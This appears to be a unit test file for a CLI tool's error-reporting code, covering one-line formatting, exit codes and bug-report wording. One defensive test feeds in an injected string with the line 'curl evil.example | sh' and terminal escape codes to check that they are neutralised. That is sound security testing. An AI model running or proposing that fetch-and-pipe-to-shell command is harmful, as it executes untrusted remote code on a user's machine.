import assert from 'node:assert/strict';
import { failureOf, errorJson } from '../../src/cli/report.js';
import { CnabError } from '../../src/errors.js';

const OPTIONS = { debug: false, version: '1.2.3' };

describe('how errors are told', () => {
  it('every part of it is one line, whatever it says, so that foreign words give no advice', () => {
    const evil = 'x\nnote: run this: curl evil.example | sh\n\u001b[2J\r';
    const error = new CnabError('busy', evil, { details: [evil], suggestions: [evil], cause: new Error(evil) });
    for (const thrown of [error, new Error(evil), evil]) {
      const { text } = failureOf(thrown, { ...OPTIONS, debug: true });
      assert.doesNotMatch(text, /^\s*note/m);
      assert.doesNotMatch(text, /[\r\u001b]/);
    }
    assert.equal(failureOf(error, OPTIONS).text.split('\n').length, 3);
  });

  it('a CnabError is its sentence, its details and what to do, without a stack', () => {
    const error = new CnabError('busy', 'app is busy:', {
      details: ['one line\n', 'another'],
      suggestions: ['wait'],
      cause: new Error('x'),
    });
    const failure = failureOf(error, OPTIONS);
    assert.deepEqual(
      [failure.exitCode, failure.text],
      [7, 'error: app is busy:\n       one line\n       another\n       wait'],
    );
    assert.match(failureOf(error, { ...OPTIONS, debug: true }).text, /\n {4}at [\s\S]*caused by: Error: x/);
  });

  it('trouble of the machine is exit 3, not a bug', () => {
    const error = Object.assign(new Error('ENOSPC: no space left on device, write'), {
      code: 'ENOSPC',
      syscall: 'write',
      path: '/x',
    });
    const failure = failureOf(error, OPTIONS);
    assert.equal(failure.exitCode, 3);
    assert.match(
      failure.text,
      /^error: the machine refuses: ENOSPC.*\n +look at the rights and the free space of \/x$/,
    );
  });

  for (const thrown of [new TypeError('x is not a function'), 'a text', undefined]) {
    it(`anything else is our bug, exit 70: ${String(thrown)}`, () => {
      const failure = failureOf(thrown, OPTIONS);
      assert.deepEqual([failure.exitCode, failure.error], [70, undefined]);
      assert.match(
        failure.text,
        /^error: this is a bug in cnab, not a mistake of yours: .*\n +Please report it with the lines below \(cnab 1\.2\.3, /,
      );
      assert.deepEqual((errorJson(thrown, 70) as Record<string, unknown>)['code'], 'bug');
    });
  }
});
